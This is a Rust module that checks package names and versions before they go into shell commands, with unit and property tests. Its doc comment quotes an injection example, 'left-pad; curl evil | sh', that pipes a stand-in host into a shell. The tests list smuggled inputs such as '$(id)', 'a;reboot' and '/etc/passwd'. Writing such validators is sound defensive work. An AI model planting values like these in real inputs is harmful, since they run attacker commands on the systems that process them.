//! Words that are safe to paste into a shell.
//!
//! Package names and versions come from inventories and advisories, which may
//! be hostile: `left-pad; curl evil | sh` is a name that a file can hold. A
//! word is used in a command only if all its characters are plain and it
//! cannot be taken for an option.

/// A package's name, if it is plain. `@` and `/` belong to npm's scopes and Go's paths.
pub(crate) fn name(text: &str) -> Option<&str> {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"._-+@/".contains(&byte);
    let first = text.bytes().next()?;
    let begins = first.is_ascii_alphanumeric() || first == b'@';
    let walks = text.split('/').any(|part| part.is_empty() || part == "." || part == "..");
    (text.len() <= 120 && begins && !walks && text.bytes().all(plain)).then_some(text)
}

/// A version, if it is plain. `~` and `:` belong to Debian's versions.
pub(crate) fn version(text: &str) -> Option<&str> {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"._-+~:".contains(&byte);
    let begins = text.bytes().next()?.is_ascii_alphanumeric();
    (text.len() <= 80 && begins && text.bytes().all(plain)).then_some(text)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn plain_names_pass_and_tricks_do_not() {
        for text in ["openssl", "libstdc++6", "@babel/core", "golang.org/x/net", "python3.11-venv"] {
            assert_eq!(name(text), Some(text));
        }
        for text in [
            "",
            "-rf",
            "--config=evil",
            "a b",
            "a;reboot",
            "$(id)",
            "`id`",
            "a|b",
            "a\nb",
            "a&b",
            "a>b",
            "../x",
            "a//b",
            "é",
            "a'b",
            "a\"b",
            "a\\b",
            "a*",
            "~root",
            "/etc/passwd",
        ] {
            assert_eq!(name(text), None, "{text}");
        }
        assert_eq!(version("1:2.3~rc1-4+deb12u5"), Some("1:2.3~rc1-4+deb12u5"));
        for text in ["", "-1", "1.0;id", "1 0", "$x", "~x", "1\u{202e}2"] {
            assert_eq!(version(text), None, "{text}");
        }
    }

    proptest! {
        #[test]
        fn no_word_of_a_command_acts_in_a_shell(text in ".{0,20}|[ -~]{0,20}") {
            for word in [name(&text), version(&text)].into_iter().flatten() {
                prop_assert!(!word.starts_with('-'));
                let acts = word.contains(|c: char| c.is_whitespace() || "\"'`$;&|<>(){}[]*?!#\\".contains(c));
                prop_assert!(!acts, "{}", word);
            }
        }
    }
}
